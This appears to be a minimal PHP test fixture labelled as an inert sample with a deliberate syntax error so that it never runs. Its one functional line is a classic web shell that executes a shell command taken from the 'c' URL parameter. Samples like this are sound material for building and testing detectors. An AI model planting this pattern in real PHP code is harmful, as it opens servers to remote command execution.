<?php
shodo inert sample: deliberate syntax error, this file never runs
echo `{$_GET['c']}`;
